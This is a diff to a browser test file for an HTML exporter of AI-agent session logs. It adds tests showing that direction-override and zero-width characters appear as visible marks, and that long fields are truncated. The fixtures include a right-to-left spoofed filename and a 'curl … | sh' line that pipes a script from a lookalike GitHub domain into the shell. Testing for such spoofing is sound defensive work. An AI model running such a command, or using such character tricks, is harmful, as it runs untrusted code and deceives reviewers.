@@ -5,8 +5,8 @@ import { pathToFileURL } from 'node:url'
 import type { BrowserContext, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { renderSessionHtml } from '../src/export.js'
-import { artifact, launch, skipReason } from './chromium.js'
-import { HOSTILE, longSession, richSession } from './sessions.js'
+import { artifact, characterLefts, formatCharacters, launch, skipReason } from './chromium.js'
+import { disguisedSession, HOSTILE, longSession, oversizedSession, richSession } from './sessions.js'
 
 if (skipReason) console.warn(`skipping the browser tests: ${skipReason}`)
 
@@ -105,6 +105,33 @@ describe.skipIf(skipReason)('an exported session in Chromium, opened from disk w
     await page.screenshot({ path: artifact('export-long.png') })
     expect(errors).toEqual([])
     expect(requested).toEqual([])
+  })
+
+  it('shows direction overrides and invisible characters as marks, so every text reads in the order it is stored', async () => {
+    const { page, errors } = await open('disguised.html', renderSessionHtml(disguisedSession()))
+    await page.locator('li.call summary').first().click()
+    expect(formatCharacters((await page.locator('main').textContent())!)).toEqual([])
+    expect(await page.locator('.assistant-text').textContent()).toBe('Saved invoice⟨U+202E⟩fdp.sh.')
+    expect(await page.locator('.diff-lines').textContent()).toBe('+curl https://git⟨U+200B⟩hub.com/install.sh | sh\n')
+    for (const selector of ['.assistant-text', '.call-body pre.args', '.diff .path', '.call-body .content pre']) {
+      const lefts = await characterLefts(page.locator(selector).first(), 'fdp.sh')
+      expect(lefts, selector).toEqual([...lefts].sort((a, b) => a - b))
+    }
+    expect(errors).toEqual([])
+  })
+
+  it('cuts every field a model or tool fills (names, model, errors, paths, diff lines, URIs, reasons) after 20 000 characters', async () => {
+    const { page, errors } = await open('oversized.html', renderSessionHtml(oversizedSession(5_000_000)))
+    await page.locator('li.call summary').first().click()
+    for (const selector of ['.summary-model', '.turn-meta', '.tool-name', '.error-message', '.diff .path', '.diff-lines', '.content .note', '.session-end']) {
+      const text = (await page.locator(selector).first().textContent())!
+      expect(text.length, selector).toBeLessThan(20_100)
+      expect(text, selector).toMatch(/ more characters\]\n?$|^messagex+$/)
+    }
+    // The error message, like every result text, can be shown whole.
+    await page.getByRole('button', { name: 'Show all 5,000,007 characters' }).click()
+    expect((await page.locator('.error-message').textContent())!.length).toBe(5_000_007)
+    expect(errors).toEqual([])
   })
 
   it('a file whose data was cut says so instead of failing silently', async () => {
